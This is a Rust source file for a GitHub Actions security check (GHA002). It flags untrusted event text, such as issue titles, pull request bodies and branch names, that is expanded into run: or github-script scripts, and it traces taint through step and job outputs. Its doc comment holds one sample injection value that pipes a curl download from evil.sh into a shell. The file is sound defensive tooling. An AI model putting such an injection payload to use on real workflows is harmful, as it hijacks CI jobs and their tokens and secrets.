//! GHA002: text an outsider controls (an issue's title, a pull request's body or branch name, a
//! commit message, a comment) expanded by `${{ … }}` into a `run:` script or a
//! `actions/github-script` `script:`. GitHub pastes the value into the script before the shell
//! reads it, so a title like `"; curl evil.sh | sh; "` runs with the job's token and secrets.
//! Passing the value through `env:` and quoting `"$VAR"` makes it data.

use crate::checks::{Check, Hit, Settings};
use crate::formats::github_actions::{Scalar, Workflow, contexts, expressions};

pub const CHECK: Check = Check::github_actions(RULE, check);
const RULE: &str = "GHA002";

/// Context paths whose values anyone who can open an issue or a pull request, comment, or push
/// a branch chooses. `*` stands for any index or key.
const UNTRUSTED: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.pull_request.head.repo.description",
    "github.event.pull_request.head.repo.homepage",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
    "github.head_ref",
];

/// Whether a context path is, or holds, a value from [`UNTRUSTED`] (`github.event.issue`
/// serialised whole holds its title), or is a free-text input of a manually dispatched run.
fn untrusted(path: &str, dispatch: &Taint) -> bool {
    let input = path
        .strip_prefix("inputs.")
        .or_else(|| path.strip_prefix("github.event.inputs."));
    if let Some(name) = input {
        return dispatch.free_text(name);
    }
    if dispatch
        .tainted
        .iter()
        .any(|output| output == path || matches_with_stars(output, path))
    {
        return true;
    }
    UNTRUSTED.iter().any(|known| {
        path == *known || known.starts_with(&format!("{path}.")) || matches_with_stars(known, path)
    })
}

/// What of a workflow's own values carries text from whoever triggers it: the free-text inputs
/// of `workflow_dispatch` (a `boolean`, `number` or `choice` input cannot carry a script), and
/// the step outputs of the job at hand and the outputs of other jobs made from untrusted text.
#[derive(Clone)]
struct Taint {
    dispatched: bool,
    typed: Vec<(String, String)>,
    /// Outputs that carry untrusted text: steps' of the job at hand ([`tainted_outputs`]) and
    /// other jobs' ([`tainted_job_outputs`]).
    tainted: Vec<String>,
}

impl Taint {
    fn of(workflow: &Workflow<'_>) -> Taint {
        let yaml = workflow.yaml;
        let typed = yaml
            .get(workflow.root, "on")
            .or_else(|| yaml.get(workflow.root, "true"))
            .and_then(|on| yaml.get(on.value, "workflow_dispatch"))
            .and_then(|dispatch| yaml.get(dispatch.value, "inputs"))
            .map(|inputs| {
                yaml.keys(inputs.value)
                    .into_iter()
                    .map(|(name, entry)| {
                        let kind = yaml
                            .get(entry.value, "type")
                            .and_then(|t| yaml.str(t.value))
                            .unwrap_or("string")
                            .to_owned();
                        (name, kind)
                    })
                    .collect()
            })
            .unwrap_or_default();
        Taint {
            dispatched: workflow.runs_on("workflow_dispatch"),
            typed,
            tainted: Vec::new(),
        }
    }

    fn free_text(&self, name: &str) -> bool {
        self.dispatched
            && self
                .typed
                .iter()
                .find(|(input, _)| input == name)
                .is_none_or(|(_, kind)| !matches!(kind.as_str(), "boolean" | "number" | "choice"))
    }
}

fn matches_with_stars(pattern: &str, path: &str) -> bool {
    let pattern: Vec<&str> = pattern.split('.').collect();
    let path: Vec<&str> = path.split('.').collect();
    pattern.len() == path.len()
        && pattern
            .iter()
            .zip(&path)
            .all(|(p, q)| *p == "*" || *q == "*" || p == q)
}

/// The step outputs of a job that carry untrusted text: a step that writes `NAME=…` to
/// `$GITHUB_OUTPUT` from an untrusted expression, or from an environment variable (of the
/// step, its job or the workflow) that holds one, makes `steps.<id>.outputs.NAME` untrusted.
fn tainted_outputs(
    workflow: &Workflow<'_>,
    job: &crate::formats::github_actions::Job,
    dispatch: &Taint,
) -> Vec<String> {
    let yaml = workflow.yaml;
    let untrusted_text = |text: &str| {
        expressions(text)
            .iter()
            .any(|(_, inside)| contexts(inside).iter().any(|p| untrusted(p, dispatch)))
    };
    // Environment variables that hold untrusted text, by name.
    let tainted_env = |node| -> Vec<String> {
        yaml.get(node, "env")
            .map(|env| {
                yaml.keys(env.value)
                    .into_iter()
                    .filter(|(_, e)| yaml.str(e.value).is_some_and(untrusted_text))
                    .map(|(name, _)| name)
                    .collect()
            })
            .unwrap_or_default()
    };
    let mut inherited = tainted_env(workflow.root);
    inherited.extend(tainted_env(job.node));
    let mut outputs = Vec::new();
    for step in &job.steps {
        let (Some(id), Some(run)) = (
            yaml.get(step.node, "id").and_then(|e| yaml.str(e.value)),
            &step.run,
        ) else {
            continue;
        };
        let mut env = inherited.clone();
        env.extend(tainted_env(step.node));
        for line in run.text.lines().filter(|l| l.contains("GITHUB_OUTPUT")) {
            let Some((left, right)) = line.split_once('=') else {
                continue;
            };
            let name = left
                .rsplit(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
                .next()
                .unwrap_or_default();
            let from_env = env.iter().any(|var| {
                right.contains(&format!("${var}")) || right.contains(&format!("${{{var}}}"))
            });
            if !name.is_empty() && (from_env || untrusted_text(right)) {
                outputs.push(format!("steps.{id}.outputs.{name}"));
            }
        }
    }
    outputs
}

/// The job outputs (`needs.<job>.outputs.NAME`) that carry untrusted text: a job's `outputs:`
/// entry made from an untrusted expression or a tainted step output of that job. Jobs pass
/// outputs on through `needs`, in any order in the file, so this runs until nothing changes.
fn tainted_job_outputs(workflow: &Workflow<'_>, dispatch: &Taint) -> Vec<String> {
    let yaml = workflow.yaml;
    let mut found: Vec<String> = Vec::new();
    for _ in 0..=workflow.jobs.len() {
        let before = found.len();
        for job in &workflow.jobs {
            let Some(outputs) = yaml.get(job.node, "outputs") else {
                continue;
            };
            let taint = Taint {
                tainted: [found.clone(), tainted_outputs(workflow, job, dispatch)].concat(),
                ..dispatch.clone()
            };
            for (name, entry) in yaml.keys(outputs.value) {
                let carries = yaml.str(entry.value).is_some_and(|text| {
                    expressions(text)
                        .iter()
                        .any(|(_, inside)| contexts(inside).iter().any(|p| untrusted(p, &taint)))
                });
                let path = format!("needs.{}.outputs.{name}", job.id);
                if carries && !found.contains(&path) {
                    found.push(path);
                }
            }
        }
        if found.len() == before {
            break;
        }
    }
    found
}

fn check(workflow: &Workflow<'_>, _: &Settings, hits: &mut Vec<Hit>) {
    let mut dispatch = Taint::of(workflow);
    let from_jobs = tainted_job_outputs(workflow, &dispatch);
    for job in &workflow.jobs {
        // A step output may carry another job's tainted output on.
        dispatch.tainted = from_jobs.clone();
        let steps = tainted_outputs(workflow, job, &dispatch);
        dispatch.tainted.extend(steps);
        for step in &job.steps {
            if let Some(run) = &step.run {
                judge(workflow, run, "a `run:` script", &dispatch, hits);
            }
            let github_script = step
                .uses
                .as_ref()
                .is_some_and(|u| u.text.trim().starts_with("actions/github-script@"));
            if github_script {
                for (name, value) in &step.with {
                    if name == "script" {
                        judge(
                            workflow,
                            value,
                            "an `actions/github-script` script",
                            &dispatch,
                            hits,
                        );
                    }
                }
            }
        }
    }
}

fn judge(
    workflow: &Workflow<'_>,
    script: &Scalar,
    place: &str,
    dispatch: &Taint,
    hits: &mut Vec<Hit>,
) {
    for (place_in_file, inside) in workflow.expressions_in(script) {
        let Some(path) = contexts(inside)
            .into_iter()
            .find(|path| untrusted(path, dispatch))
        else {
            continue;
        };
        let who = if path.starts_with("inputs.") || path.starts_with("github.event.inputs.") {
            "whoever triggers the workflow"
        } else if path.starts_with("steps.") {
            "an outsider (through an earlier step)"
        } else if path.starts_with("needs.") {
            "an outsider (through an earlier job)"
        } else {
            "an outsider"
        };
        hits.push(Hit::new(
            RULE,
            place_in_file,
            format!(
                "`{path}`, which {who} chooses, is expanded into {place}: pass it through `env:` and use \"$VARIABLE\""
            ),
        ));
    }
}
